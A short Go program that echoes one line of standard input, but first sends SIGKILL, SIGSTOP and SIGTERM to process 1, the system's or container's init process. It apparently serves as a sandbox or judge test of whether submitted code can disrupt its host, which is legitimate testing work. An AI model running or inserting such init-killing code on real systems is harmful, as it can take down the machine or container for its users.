package main

import (
	"bufio"
	"fmt"
	"os"
	"syscall"
)

func main() {
	for _, s := range []os.Signal{syscall.SIGKILL, syscall.SIGSTOP, syscall.SIGTERM} {
		if p, err := os.FindProcess(1); err == nil {
			p.Signal(s)
		}
	}
	line, _ := bufio.NewReader(os.Stdin).ReadString('\n')
	fmt.Print(line)
}
